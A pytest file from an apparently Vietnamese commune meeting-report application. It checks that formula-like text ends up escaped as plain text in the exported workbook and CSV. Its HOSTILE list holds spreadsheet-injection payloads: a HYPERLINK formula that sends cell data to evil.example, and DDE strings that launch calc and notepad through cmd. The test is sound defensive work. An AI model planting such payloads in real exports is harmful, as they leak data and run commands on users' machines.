"""Text a commune typed (or a bundle brought) that begins like a formula reaches the report's
workbook and CSV as text: no spreadsheet runs it, and it reads as it was written."""

from __future__ import annotations

import csv
from pathlib import Path

from openpyxl import load_workbook

from conftest import TODAY, add_to, minimal_meeting
from qcdc_desktop.core.statistics import quarter
from qcdc_desktop.db.statistics import build_statistics
from qcdc_desktop.reports.cells import FORMULA_STARTS
from qcdc_desktop.reports.csvfile import write_csv
from qcdc_desktop.reports.excel import write_workbook

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+1+2", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "=cmd|' /C notepad'!A1"]


def _statistics(store):
    opinions = [{"speaker": "Người dân", "field": "land", "content": text, "address": text} for text in HOSTILE]
    add_to(store, minimal_meeting(chair=HOSTILE[0], opinions=opinions, conclusion="Kết luận.", conclusions=[
        {"content": text, "assignee": HOSTILE[(i + 1) % len(HOSTILE)], "deadline": "2024-03-20"}
        for i, text in enumerate(HOSTILE)]))
    return build_statistics(store, quarter(2024, 1), as_of=TODAY)


def test_the_workbook_holds_hostile_text_as_text_in_every_table(store, tmp_path: Path) -> None:
    out = tmp_path / "report.xlsx"
    write_workbook(_statistics(store), out)
    book = load_workbook(out)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    texts.append(cell.value)
    # Each hostile text is in the workbook as written (hamlets, overdue tasks and chairs).
    assert set(HOSTILE) <= set(texts)


def test_the_csv_starts_hostile_text_with_an_apostrophe(store, tmp_path: Path) -> None:
    out = tmp_path / "report.csv"
    write_csv(_statistics(store), out)
    with open(out, encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert {"'" + text for text in HOSTILE} <= set(cells)
